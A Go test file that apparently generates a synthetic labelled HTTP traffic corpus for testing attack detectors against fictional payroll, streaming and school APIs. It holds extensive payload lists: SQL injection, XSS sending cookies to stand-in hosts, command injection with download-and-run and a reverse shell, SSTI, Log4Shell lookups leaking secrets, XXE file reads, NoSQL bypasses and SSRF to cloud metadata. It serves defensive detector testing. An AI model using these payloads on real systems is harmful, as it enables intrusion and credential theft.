package detect_test

// holdout4: an independent labelled corpus for the eight stateless technique
// detectors, written from docs/detect.md only (no detector code, no other
// corpus read). Three APIs: HR/payroll SaaS (api.payroll.example), video
// streaming (api.stream.example) and a school learning-management system
// (lms.example/api). Everything is deterministic: fixed time base, fixed ids,
// a seeded PCG generator.
//
//	go test ./detect/ -run TestHoldout4Generate -update-holdout4

import (
	"bytes"
	"crypto/hmac"
	"crypto/sha256"
	"encoding/base64"
	"encoding/json"
	"flag"
	"fmt"
	"math/rand/v2"
	"net/url"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

var updateHoldout4 = flag.Bool("update-holdout4", false, "rewrite detect/testdata/holdout4 from its generator")

const (
	h4SQLi      = "detect.injection.sqli"
	h4XSS       = "detect.injection.xss"
	h4Other     = "detect.injection.other"
	h4SSRF      = "detect.ssrf"
	h4JWT       = "detect.auth.jwt"
	h4Verbose   = "detect.misconfig.verbose"
	h4Sensitive = "detect.exposure.sensitive"
	h4Limits    = "detect.resource.limits"
)

var h4Detectors = []string{h4SQLi, h4XSS, h4Other, h4SSRF, h4JWT, h4Verbose, h4Sensitive, h4Limits}

var h4Base = time.Date(2026, 10, 20, 7, 30, 0, 0, time.UTC)

// ---- wire types (the format of docs/traffic-format.md) ----

type h4Client struct {
	Addr string `json:"addr"`
}

type h4Req struct {
	Method   string              `json:"method"`
	URL      string              `json:"url"`
	Proto    string              `json:"proto"`
	Headers  map[string][]string `json:"headers,omitempty"`
	Body     string              `json:"body,omitempty"`
	BodySize int                 `json:"body_size"`
}

type h4Resp struct {
	Status   int                 `json:"status"`
	Proto    string              `json:"proto"`
	Headers  map[string][]string `json:"headers,omitempty"`
	Body     string              `json:"body,omitempty"`
	BodySize int                 `json:"body_size"`
}

type h4Exchange struct {
	ID         string   `json:"id"`
	Time       string   `json:"time"`
	Sensor     string   `json:"sensor"`
	Client     h4Client `json:"client"`
	Request    h4Req    `json:"request"`
	Response   *h4Resp  `json:"response,omitempty"`
	DurationMS float64  `json:"duration_ms"`
}

type h4Label struct {
	ID        string   `json:"id"`
	Detectors []string `json:"detectors"`
}

// h4Ctx is what an item knows when it is materialised: its time and index.
type h4Ctx struct {
	T   time.Time
	N   int
	rng *rand.Rand
}

// h4Built is one exchange before its id and client are assigned.
type h4Built struct {
	req    h4Req
	resp   *h4Resp
	labels []string
	// token intent for the generator's own check: "valid", "expired", "" (no check)
	tokenIntent string
}

type h4Item func(c *h4Ctx) h4Built

// ---- small helpers ----

func h4J(v any) string {
	var b bytes.Buffer
	enc := json.NewEncoder(&b)
	enc.SetEscapeHTML(false)
	if err := enc.Encode(v); err != nil {
		panic(err)
	}
	return strings.TrimSuffix(b.String(), "\n")
}

func h4Pick[T any](r *rand.Rand, xs []T) T { return xs[r.IntN(len(xs))] }

func h4Hosts(api int) string {
	return []string{"https://api.payroll.example", "https://api.stream.example", "https://lms.example/api"}[api%3]
}

var h4UAs = []string{
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/129.0.0.0 Safari/537.36",
	"Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6_1) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.0 Safari/605.1.15",
	"Mozilla/5.0 (X11; Linux x86_64; rv:131.0) Gecko/20100101 Firefox/131.0",
	"StreamBox/4.12.0 (Android 14; Pixel 8; build 41203)",
	"StreamBox/4.11.3 (iOS 18.0.1; iPhone15,3)",
	"okhttp/4.12.0",
	"PayrollSync/2.3.1 (+https://payroll.example/integrations)",
	"python-requests/2.32.3",
	"axios/1.7.7",
	"Go-http-client/2.0",
	"LMSMobile/6.4 CFNetwork/1496.0.7 Darwin/23.5.0",
	"Roku/DVP-13.0 (13.0.0.4165-46)",
	"Mozilla/5.0 (SMART-TV; Linux; Tizen 7.0) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/5.0 TV Safari/537.36",
	"PostmanRuntime/7.42.0",
	"Workday-Connector/1.8 (Java/21.0.4)",
}

// attacker-side tools seen in real scans and fuzzers
var h4AttackUAs = []string{
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/128.0.0.0 Safari/537.36",
	"sqlmap/1.8.9#stable (https://sqlmap.org)",
	"Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))",
	"python-httpx/0.27.2",
	"Fuzz Faster U Fool v2.1.0-dev",
	"curl/8.10.1",
	"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/130.0.0.0 Safari/537.36",
	"Go-http-client/1.1",
	"aiohttp/3.10.10",
}

func h4Addr(n int) string {
	switch n % 5 {
	case 0, 1:
		return fmt.Sprintf("100.%d.%d.%d:%d", 64+(n*7)%64, (n*13)%256, 1+(n*29)%254, 40000+(n*97)%20000)
	case 2, 3:
		return fmt.Sprintf("[2001:db8:%x:%x::%x]:%d", 0x10+(n*3)%200, (n*11)%4096, 1+(n*31)%65000, 40000+(n*89)%20000)
	default:
		return fmt.Sprintf("192.0.2.%d:%d", 1+(n*17)%254, 40000+(n*71)%20000)
	}
}

func h4RespJSON(status int, body string) *h4Resp {
	return &h4Resp{Status: status, Proto: "HTTP/2.0", Headers: map[string][]string{
		"Content-Type":              {"application/json; charset=utf-8"},
		"Cache-Control":             {"no-store"},
		"X-Content-Type-Options":    {"nosniff"},
		"Strict-Transport-Security": {"max-age=31536000; includeSubDomains"},
	}, Body: body, BodySize: len(body)}
}

func h4RespType(status int, ctype, body string) *h4Resp {
	r := h4RespJSON(status, body)
	r.Headers["Content-Type"] = []string{ctype}
	return r
}

func h4NewReq(method, u, ua string) h4Req {
	return h4Req{Method: method, URL: u, Proto: "HTTP/2.0", Headers: map[string][]string{
		"User-Agent": {ua},
		"Accept":     {"application/json"},
	}}
}

func (r *h4Req) body(ctype, b string) {
	r.Headers["Content-Type"] = []string{ctype}
	r.Body = b
	r.BodySize = len(b)
}

// ---- JWTs ----

var h4HMACKey = []byte("h4-holdout-signing-key-not-a-real-secret")

func h4B64(v any) string {
	return base64.RawURLEncoding.EncodeToString([]byte(h4J(v)))
}

// h4FakeSig is a deterministic opaque signature of n bytes.
func h4FakeSig(seed string, n int) string {
	var out []byte
	s := sha256.Sum256([]byte(seed))
	for len(out) < n {
		out = append(out, s[:]...)
		s = sha256.Sum256(s[:])
	}
	return base64.RawURLEncoding.EncodeToString(out[:n])
}

// h4Token signs HS256 for real and gives other algorithms an opaque signature
// of the right length.
func h4Token(hdr, claims map[string]any) string {
	si := h4B64(hdr) + "." + h4B64(claims)
	switch hdr["alg"] {
	case "HS256":
		m := hmac.New(sha256.New, h4HMACKey)
		m.Write([]byte(si))
		return si + "." + base64.RawURLEncoding.EncodeToString(m.Sum(nil))
	case "ES256":
		return si + "." + h4FakeSig(si, 64)
	default:
		return si + "." + h4FakeSig(si, 256)
	}
}

var h4Issuers = []string{"https://auth.payroll.example/", "https://id.stream.example", "https://lms.example/oauth2"}

func h4ValidToken(c *h4Ctx, api int) string {
	algs := []string{"HS256", "RS256", "RS256", "ES256"}
	alg := algs[c.N%len(algs)]
	hdr := map[string]any{"alg": alg, "typ": "JWT"}
	if alg != "HS256" {
		hdr["kid"] = []string{"2026-10-key_1", "rsa-prod-7f3a", "lms-signing-2026q4"}[api%3]
	}
	iat := c.T.Add(-time.Duration(5+c.N%50) * time.Minute)
	claims := map[string]any{
		"iss":   h4Issuers[api%3],
		"sub":   fmt.Sprintf("usr_%06d", 1000+c.N*37%90000),
		"aud":   []string{"payroll-api", "stream-api", "lms-api"}[api%3],
		"iat":   iat.Unix(),
		"exp":   iat.Add(time.Duration(1+c.N%12) * time.Hour).Unix(),
		"scope": []string{"employees:read payslips:read", "catalog:read playback", "courses:read submissions:write"}[api%3],
	}
	if c.N%4 == 0 {
		claims["nbf"] = iat.Unix()
	}
	return h4Token(hdr, claims)
}

// ---- injection placement ----

// placements a payload can be put in for a request
const (
	h4PQuery = iota
	h4PPath
	h4PForm
	h4PJSON
	h4PJSONDeep
	h4PJSONArr
	h4PUA
	h4PReferer
	h4PXFF
	h4PAPIVer
	h4PCookie
	h4PGraphQL
	h4PCount
)

type h4Spot struct {
	method string
	path   string // may contain %s for a path segment
	param  string // query/form/JSON field name
}

var h4QuerySpots = [3][]h4Spot{
	{{"GET", "/api/v1/employees", "search"}, {"GET", "/api/v1/payslips", "period"}, {"GET", "/v2/departments", "name"}, {"GET", "/api/v1/timesheets", "employeeId"}, {"GET", "/api/v1/reports/export", "sort"}},
	{{"GET", "/v2/catalog/search", "q"}, {"GET", "/v2/titles", "genre"}, {"GET", "/api/v1/playback/history", "deviceId"}, {"GET", "/v2/subtitles", "lang"}, {"GET", "/v2/recommendations", "orderBy"}},
	{{"GET", "/v1/courses", "filter"}, {"GET", "/v1/gradebook", "studentId"}, {"GET", "/v1/assignments", "due_before"}, {"GET", "/v1/forum/threads", "keyword"}, {"GET", "/v1/attendance", "class_code"}},
}

var h4PathSpots = [3][]string{
	{"/api/v1/employees/%s/payslips", "/v2/cost-centers/%s", "/api/v1/documents/%s/download"},
	{"/v2/titles/%s/episodes", "/api/v1/profiles/%s/watchlist", "/v2/channels/%s"},
	{"/v1/courses/%s/modules", "/v1/students/%s/grades", "/v1/files/%s"},
}

var h4BodySpots = [3][]h4Spot{
	{{"POST", "/api/v1/employees", "lastName"}, {"PATCH", "/api/v1/employees/4471", "jobTitle"}, {"POST", "/api/v1/expenses", "merchant_name"}, {"POST", "/v2/leave-requests", "reason"}},
	{{"POST", "/v2/profiles", "displayName"}, {"POST", "/api/v1/reviews", "comment_text"}, {"PUT", "/v2/playlists/88", "title"}, {"POST", "/api/v1/search/log", "queryText"}},
	{{"POST", "/v1/submissions", "answer"}, {"POST", "/v1/forum/posts", "subject"}, {"PATCH", "/v1/students/20931", "guardian_name"}, {"POST", "/v1/messages", "messageBody"}},
}

// h4Inject places payload at the given placement for one of the three APIs.
func h4Inject(c *h4Ctx, api, place int, payload string) h4Req {
	host := h4Hosts(api)
	ua := h4Pick(c.rng, h4AttackUAs)
	tok := "Bearer " + h4ValidToken(c, api)
	qs := h4QuerySpots[api][c.N%len(h4QuerySpots[api])]
	bs := h4BodySpots[api][c.N%len(h4BodySpots[api])]
	var r h4Req
	switch place {
	case h4PQuery:
		// alternate between + and %20 for spaces, and an extra benign parameter first
		v := url.QueryEscape(payload)
		if c.N%2 == 0 {
			v = strings.ReplaceAll(v, "+", "%20")
		}
		r = h4NewReq("GET", fmt.Sprintf("%s%s?page=1&%s=%s", host, qs.path, qs.param, v), ua)
	case h4PPath:
		p := h4PathSpots[api][c.N%len(h4PathSpots[api])]
		r = h4NewReq("GET", host+fmt.Sprintf(p, url.PathEscape(payload)), ua)
	case h4PForm:
		r = h4NewReq("POST", host+bs.path, ua)
		r.Method = bs.method
		r.body("application/x-www-form-urlencoded", "locale=en-GB&"+bs.param+"="+url.QueryEscape(payload)+"&notify=true")
	case h4PJSON:
		r = h4NewReq(bs.method, host+bs.path, ua)
		r.body("application/json", h4J(map[string]any{bs.param: payload, "updatedBy": "usr_104233"}))
	case h4PJSONDeep:
		r = h4NewReq(bs.method, host+bs.path, ua)
		r.body("application/json", h4J(map[string]any{"data": map[string]any{"type": "record", "attributes": map[string]any{"meta": map[string]any{"note": payload}}}}))
	case h4PJSONArr:
		r = h4NewReq("POST", host+"/api/v1/batch", ua)
		r.body("application/json", h4J(map[string]any{"items": []any{map[string]any{"id": 1, "tags": []string{"q4", payload}}, map[string]any{"id": 2, "tags": []string{"ok"}}}}))
	case h4PUA:
		r = h4NewReq("GET", host+qs.path+"?page=2", payload)
	case h4PReferer:
		r = h4NewReq("GET", host+qs.path, ua)
		r.Headers["Referer"] = []string{"https://app" + strings.TrimPrefix(strings.TrimPrefix(host, "https://api"), "https://") + "/search?q=" + url.QueryEscape(payload)}
	case h4PXFF:
		r = h4NewReq("GET", host+qs.path, ua)
		r.Headers["X-Forwarded-For"] = []string{payload}
	case h4PAPIVer:
		r = h4NewReq("GET", host+qs.path, ua)
		r.Headers["X-Api-Version"] = []string{payload}
	case h4PCookie:
		r = h4NewReq("GET", host+qs.path, ua)
		name := []string{"last_search", "ui_lang", "tz_pref"}[c.N%3]
		r.Headers["Cookie"] = []string{"consent=1; " + name + "=" + url.QueryEscape(payload) + "; theme=dark"}
	case h4PGraphQL:
		r = h4NewReq("POST", strings.TrimSuffix(host, "/api")+"/graphql", ua)
		r.body("application/json", h4J(map[string]any{
			"query":     "query Search($term: String!) { search(term: $term, first: 20) { edges { node { id title } } } }",
			"variables": map[string]any{"term": payload},
		}))
	}
	if place != h4PCookie || c.N%2 == 0 {
		r.Headers["Authorization"] = []string{tok}
	}
	return r
}

func h4HeaderSafe(p string) bool {
	for _, ch := range p {
		if ch < 0x20 || ch == 0x7f {
			return false
		}
	}
	return true
}

// h4InjectItems turns a payload list into items, rotating APIs and placements.
func h4InjectItems(label string, payloads []string, places []int, offset int) []h4Item {
	var items []h4Item
	for i, p := range payloads {
		i, p := i, p
		items = append(items, func(c *h4Ctx) h4Built {
			api := (i + offset) % 3
			place := places[(i+offset)%len(places)]
			if (place >= h4PUA && place <= h4PAPIVer) && !h4HeaderSafe(p) {
				place = h4PJSON
			}
			req := h4Inject(c, api, place, p)
			status := []int{400, 200, 422, 500, 200, 403}[(i+offset)%6]
			body := map[int]string{
				400: `{"error":"bad_request","message":"The request could not be processed."}`,
				200: `{"data":[],"meta":{"page":1,"total":0}}`,
				422: `{"errors":[{"field":"input","code":"invalid"}]}`,
				500: `{"error":"internal_error","requestId":"req_8c1f2a"}`,
				403: `{"error":"forbidden"}`,
			}[status]
			return h4Built{req: req, resp: h4RespJSON(status, body), labels: []string{label}, tokenIntent: "valid"}
		})
	}
	return items
}

// ---- SQL injection payloads ----

var h4SQLiPayloads = []string{
	// boolean-based, mixed case and inline comments (sqlmap tamper "randomcase", "space2comment")
	"1' AnD 8421=8421-- -",
	"admin'/**/oR/**/'1'='1",
	"x' oR 'q'LIKE'q",
	"1' oR/**/1/**/lIkE/**/1-- -",
	"') OR ('a'='a",
	"')) or 1=1-- -",
	"1) OR (1=1",
	"\" or \"\"=\"",
	"1%' AND 2=2 AND '%'='",
	"1 OR 1=1",
	// quote left open, rest commented out
	"admin'--",
	"jane.doe@school.example' -- ",
	"o.brien' #",
	"' OR 'a'='a' #",
	"1' OR '1'='1'/*",
	"\\' OR 1=1 -- ",
	// union-based, incl. MySQL versioned comments and newlines
	"x' UnIoN/**/SeLeCt NULL,NULL,version()-- -",
	"-1 UNION ALL SELECT 1,table_name,3 FROM information_schema.tables#",
	"-7 /*!50000UNION*/ /*!50000SELECT*/ 1,2,3",
	"1'\nUNION\nSELECT null,current_user--",
	"' UNION SELECT username, password FROM users--",
	"-1' union select 1,group_concat(schema_name) from information_schema.schemata-- -",
	"1' and 1=0 union select null,@@hostname,null;#",
	"' UNION SELECT sql,2 FROM sqlite_master--",
	"1 UNION SELECT NULL,NULL,NULL FROM DUAL--",
	"1' ORDER BY 13-- -",
	// time-based blind: MySQL, PostgreSQL, MSSQL, Oracle, SQLite
	"1' AnD SlEeP(5)-- -",
	"1 AND (SELECT 4211 FROM (SELECT(SLEEP(5)))xYzq)",
	"1'+(select*from(select(sleep(5)))a)+'",
	"x'=sleep(3)='1",
	"1' AND BENCHMARK(5000000,MD5(1))#",
	"1 OR pg_sleep(5)--",
	"1 waitfor delay '00:00:07'",
	"1 AND DBMS_PIPE.RECEIVE_MESSAGE('a',5)=1",
	"1 AND 3821=LIKE(CHAR(65,66,67,68,69,70,71),UPPER(HEX(RANDOMBLOB(500000000/2))))",
	// stacked statements after ;
	"1;WAITFOR DELAY '0:0:5'--",
	"1); DROP TABLE payslips;--",
	"1';SELECT pg_sleep(10)--",
	"name;SELECT pg_sleep(5)",
	"id desc;select 1 from pg_sleep(4)--",
	"'; EXEC xp_cmdshell('whoami')--",
	"1; exec master..xp_dirtree '\\\\x7.oast.example\\a'--",
	"';DECLARE @q varchar(99);SET @q='\\\\x8.oast.example\\t'; EXEC master.dbo.xp_dirtree @q;--",
	"';shutdown--",
	// error-based
	"1' AND extractvalue(1,concat(0x7e,(SELECT user())))-- ",
	"1' AND updatexml(null,concat(0x3a,database()),null)-- -",
	"1' AND 1=CAST((SELECT version()) AS int)--",
	"1 AND 1=CONVERT(int,@@version)",
	"1' GROUP BY CONCAT(version(),FLOOR(RAND(0)*2)) HAVING MIN(0)#",
	"1' procedure analyse(extractvalue(rand(),concat(0x3a,version())),1)-- ",
	"1' and current_setting('server_version') is not null--",
	// subqueries that test or call the database (ORDER BY / sort parameters)
	"(SELECT CASE WHEN (SUBSTR(user,1,1)='S') THEN 1 ELSE 1/0 END FROM dual)",
	"(CASE WHEN (SELECT 1)=1 THEN created_at ELSE id END)",
	"1' || (SELECT CASE WHEN (1=1) THEN pg_sleep(3) ELSE pg_sleep(0) END)--",
	"1 rlike (select (case when (1=1) then 1 else 0x28 end))",
	"x' AND ASCII(SUBSTRING((SELECT TOP 1 name FROM sysobjects),1,1))>64--",
	"1' AND substr((select password from users limit 1),1,1)='a",
	// out-of-band and file write
	"1'||UTL_HTTP.REQUEST('http://x9.oast.example/')||'",
	"1' INTO OUTFILE '/var/www/html/s.php'-- ",
	"1' AND 1=(SELECT COUNT(*) FROM all_users t1, all_users t2)--",
	// pre-encoded (a fuzzer that encodes before the client encodes again: double encoding)
	"1%27%20OR%20%271%27%3D%271",
	"%27%20UnIoN%20SeLeCt%201%2C2%2C3--%20-",
}

// ---- XSS payloads ----

var h4XSSPayloads = []string{
	// event handlers on less common elements
	"<svg/onload=alert(document.domain)>",
	"<img src=x onerror=fetch('//x1.oast.example/?c='+document.cookie)>",
	"\"><details open ontoggle=confirm(1)>",
	"<body onpageshow=alert(1)>",
	"<input autofocus onfocus=alert(1)>",
	"<video><source onerror=\"alert(1)\">",
	"<marquee onstart=alert(1)>",
	"<x contenteditable onblur=alert(1)>lose focus",
	"<audio src onloadstart=alert(1)>",
	"<select autofocus onfocus=alert(1)>",
	"<p onpointerenter=alert(1)>hover",
	"<dialog open onclose=alert(1)><form method=dialog><button>x",
	"<xss onafterscriptexecute=alert(1)><script>1</script>",
	"<keygen autofocus onfocus=alert(1)>",
	"<iMg SrC=x OnErRoR=alert(1)>",
	"<img/src/onerror=alert(1)>",
	"<svg\tonload=alert(1)>",
	"<img src=x:x onerror\x0c=alert(1)>",
	"<body/onload=alert(1)>",
	"<img src=x onerror=alert(1)//",
	// attribute breakouts
	"\" onmouseover=\"alert(1)\" x=\"",
	"' autofocus onfocus='alert(1)",
	// SVG / MathML / namespace confusion
	"<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
	"<svg><script xlink:href=\"data:,alert(1)\"></script></svg>",
	"<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>click</text></a>",
	"<svg><foreignObject><iframe onload=alert(1)>",
	"<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
	"<svg onload=import('//x2.oast.example/p.js')>",
	// script URLs with character references and whitespace
	"<a href=\"jav&#x09;ascript:alert(1)\">click</a>",
	"<a href=\"&#106;avascript&colon;alert(1)\">x</a>",
	"<a/href=\"javascript&#58;alert(1)\">x",
	"<a href=\"java\tscript:alert(1)\">x</a>",
	"<iframe src=\"javascript:alert(`xss`)\">",
	"<form><button formaction=javascript:alert(1)>x",
	"<embed src=\"javascript:alert(1)\">",
	"<object data=javascript:alert(1)>",
	"<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
	"<table background=\"javascript:alert(1)\">",
	"JaVaScRiPt:alert(document.cookie)",
	"javascript://%0Aalert(1)",
	"vbscript:msgbox(1)",
	"data:text/html,<script>alert(document.cookie)</script>",
	"<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>",
	"<iframe srcdoc=\"&lt;script&gt;parent.alert(1)&lt;/script&gt;\">",
	// filter evasions and obfuscated sinks
	"<scr<script>ipt>alert(1)</scr</script>ipt>",
	"<ScRiPt>prompt`1`</sCrIpT>",
	"<img src=1 onerror=eval(atob('YWxlcnQoMSk='))>",
	"<img src=\"x\" onerror=\"&#97;&#108;&#101;&#114;&#116;(1)\">",
	"<details/open/ontoggle=\"self['al'+'ert'](1)\">",
	"<img src=x onerror=\"window['ale'+'rt'](1)\">",
	"<svg onload=alert&#40;1&#41;>",
	"<img src=x onerror=this.src='//x3.oast.example/?'+localStorage.token>",
	"<script src=//x4.oast.example/h.js></script>",
	"</script><script>alert(1)</script>",
	"<textarea></textarea><script>alert(1)</script>",
	"<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
	"<!--<img src=\"--><img src=x onerror=alert(1)//\">",
	"<div style=\"width:expression(alert(1))\">",
	// polyglot (0xsobky)
	"jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e",
	// pre-encoded by the fuzzer
	"%3Csvg%20onload%3Dalert(1)%3E",
	"%3Cimg%20src%3Dx%20onerror%3Dprompt(1)%3E",
}

// SVG and HTML uploads carrying script (multipart)
var h4XSSUploads = []struct{ name, ctype, content string }{
	{"avatar.svg", "image/svg+xml", `<?xml version="1.0" standalone="no"?><svg xmlns="http://www.w3.org/2000/svg" width="64" height="64"><circle cx="32" cy="32" r="30" fill="#39c"/><script type="text/javascript">fetch("https://x5.oast.example/?"+document.cookie)</script></svg>`},
	{"badge.svg", "image/svg+xml", `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><rect width="10" height="10" onload="alert(document.domain)"/></svg>`},
	{"week3-notes.html", "text/html", `<html><body><h1>Week 3</h1><img src="x" onerror="navigator.sendBeacon('https://x6.oast.example',document.cookie)"></body></html>`},
}

// ---- other injection: command, traversal, SSTI, Log4Shell, NoSQL, XXE ----

var h4CmdPayloads = []string{
	// separators, substitution, newline
	"report.pdf;id",
	"127.0.0.1 | whoami",
	"$(curl -s http://x10.oast.example/$(whoami))",
	"`uname -a`",
	"q4.csv\nid",
	"|| ping -c 3 x11.oast.example",
	"; nslookup `whoami`.x12.oast.example",
	"$(sleep 7)",
	"invoice.pdf;wget http://x13.oast.example/s -O /tmp/s;sh /tmp/s",
	";bash -i >& /dev/tcp/100.127.9.9/4444 0>&1",
	// hidden commands: $IFS, brace expansion, wildcards, quote/backslash splitting, ANSI-C escapes
	";cat${IFS}/etc/passwd",
	"|{cat,/etc/shadow}",
	";/???/c?t /???/p??s??",
	"&& w'h'o'am'i",
	";c\\at /etc/hosts",
	";$'\\x69\\x64'",
	"a;w\"h\"o\"a\"m\"i",
	// Windows
	"& powershell -nop -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA",
	"| type C:\\Windows\\win.ini",
}

var h4TraversalPayloads = []string{
	"../../../../etc/passwd",
	"....//....//....//etc/passwd",
	"..\\..\\..\\..\\windows\\win.ini",
	"%2e%2e%2f%2e%2e%2f%2e%2e%2fproc/self/environ",
	"..%c0%af..%c0%af..%c0%afetc/passwd",
	"..%252f..%252f..%252fetc/passwd",
	"../../../../var/run/secrets/kubernetes.io/serviceaccount/token",
	"/..;/..;/..;/WEB-INF/web.xml",
	"..%00/..%00/..%00/etc/passwd",
	"../../../../../../home/app/.ssh/id_rsa",
	"..\u2215..\u2215..\u2215etc\u2215passwd",
	"reports/2026/../../../../../../etc/shadow",
}

var h4SSTIPayloads = []string{
	// Jinja2
	"{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}",
	"{{ cycler.__init__.__globals__.os.popen('id').read() }}",
	"{{ request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f') }}",
	"{{ lipsum.__globals__['os'].popen('cat /etc/passwd').read() }}",
	// Twig
	"{{['id']|filter('system')}}",
	"{{_self.env.registerUndefinedFilterCallback('exec')}}{{_self.env.getFilter('id')}}",
	// Freemarker
	"<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
	"${\"freemarker.template.utility.Execute\"?new()(\"whoami\")}",
	// Velocity
	"#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))$rt.getRuntime().exec('id')",
	// ERB
	"<%= `id` %>",
	"<%= File.open('/etc/passwd').read %>",
	// Thymeleaf / Spring EL
	"__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x",
	"[[${T(java.lang.Runtime).getRuntime().exec('whoami')}]]",
	// Smarty, Razor
	"{system('id')}",
	"@(System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\"))",
	// arithmetic probes as fuzzers send them
	"{{7*'7'}}",
	"${{7*7}}",
}

var h4Log4jPayloads = []string{
	"${jndi:ldap://x20.oast.example/a}",
	"${${lower:j}ndi:${lower:l}dap://x21.oast.example/b}",
	"${${::-j}${::-n}${::-d}${::-i}:rmi://x22.oast.example/c}",
	"${jndi:dns://x23.oast.example/d}",
	"${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//x24.oast.example/e}",
	"${j${k8s:k5:-ND}i:ldap://x25.oast.example/f}",
	"${jndi:ldaps://x26.oast.example/${env:AWS_SECRET_ACCESS_KEY}}",
	"${${upper:j}ndi:iiop://x27.oast.example/g}",
	"${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://x28.oast.example/h}",
}

// NoSQL and XXE need their own bodies
var h4NoSQLBodies = []struct{ method, path, ctype, body, query string }{
	{"POST", "/api/v1/auth/login", "application/json", `{"email":"payroll.admin@acme-hr.example","password":{"$ne":null}}`, ""},
	{"POST", "/v1/session", "application/json", `{"username":{"$gt":""},"password":{"$gt":""}}`, ""},
	{"POST", "/v1/students/search", "application/json", `{"$where":"sleep(5000) || this.role == 'admin'"}`, ""},
	{"POST", "/api/v1/login", "application/x-www-form-urlencoded", `user%5B%24ne%5D=x&password%5B%24ne%5D=x`, ""},
	{"POST", "/v1/login", "application/x-www-form-urlencoded", `login[$regex]=^adm&password[$exists]=true`, ""},
	{"GET", "/v2/titles", "", "", `$where=this.rating%3E0%20%26%26%20sleep(3000)`},
	{"POST", "/api/v1/employees/query", "application/json", `{"filter":{"$function":{"body":"function(){return true}","args":[],"lang":"js"}}}`, ""},
	{"POST", "/v2/accounts/lookup", "application/json", `{"email":{"$regex":".*"},"pin":{"$nin":[]}}`, ""},
	{"POST", "/v1/password-reset", "application/json", `{"resetToken":{"$ne":"x"},"newPassword":"Pwned!2026"}`, ""},
	{"GET", "/api/v1/users", "", "", `email%5B%24gt%5D=&limit=10`},
}

var h4XXEBodies = []struct{ path, ctype, body string }{
	{"/api/v1/payroll/import", "application/xml", `<?xml version="1.0"?><!DOCTYPE run [<!ENTITY x SYSTEM "file:///etc/passwd">]><run><period>2026-10</period><note>&x;</note></run>`},
	{"/api/v1/payroll/import", "application/xml", `<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE d [<!ENTITY % p SYSTEM "http://x30.oast.example/e.dtd"> %p;]><d/>`},
	{"/v1/grades/import", "text/xml", `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]><grades>&lol3;</grades>`},
	{"/v1/grades/import", "application/xml", `<grades xmlns:xi="http://www.w3.org/2001/XInclude"><grade><xi:include href="file:///etc/hosts" parse="text"/></grade></grades>`},
	{"/api/v1/soap/TaxService", "text/xml; charset=utf-8", `<?xml version="1.0"?><!DOCTYPE soap:Envelope [<!ENTITY xxe SYSTEM "file:///c:/windows/win.ini">]><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><GetTaxCode><employeeId>&xxe;</employeeId></GetTaxCode></soap:Body></soap:Envelope>`},
	{"/v2/captions/upload", "application/xml", `<?xml version="1.0"?><!DOCTYPE tt [<!ENTITY % dtd SYSTEM "ftp://x31.oast.example/x.dtd">%dtd;%send;]><tt xmlns="http://www.w3.org/ns/ttml"><body/></tt>`},
	{"/api/v1/payroll/import", "application/xml", `<!DOCTYPE r [<!ENTITY s SYSTEM "php://filter/convert.base64-encode/resource=/var/www/.env">]><r>&s;</r>`},
	{"/v1/feeds/import", "application/rss+xml", `<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY e SYSTEM "http://169.254.169.254/latest/meta-data/">]><rss version="2.0"><channel><title>&e;</title></channel></rss>`},
}

// ---- SSRF ----

var h4SSRFTargets = []string{
	// cloud metadata in many spellings
	"http://169.254.169.254/latest/meta-data/iam/security-credentials/",
	"http://2852039166/latest/meta-data/",
	"http://0xA9FEA9FE/latest/user-data",
	"http://0251.0376.0251.0376/latest/meta-data/",
	"http://169.254.43518/latest/meta-data/",
	"http://[::ffff:a9fe:a9fe]/latest/meta-data/",
	"http://[::ffff:169.254.169.254]/computeMetadata/v1/",
	"http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
	"http://metadata.google.internal./computeMetadata/v1/project/project-id",
	"http://[fd00:ec2::254]/latest/meta-data/",
	"http://100.100.100.200/latest/meta-data/",
	"http://169.254.170.2/v2/credentials/",
	"http://instance-data/latest/meta-data/",
	"http://169.254.169.254.nip.io/latest/meta-data/",
	// loopback
	"http://127.0.0.1:8080/admin",
	"http://127.1/",
	"http://0/",
	"http://0.0.0.0:6379/",
	"http://[::1]:9200/_cat/indices",
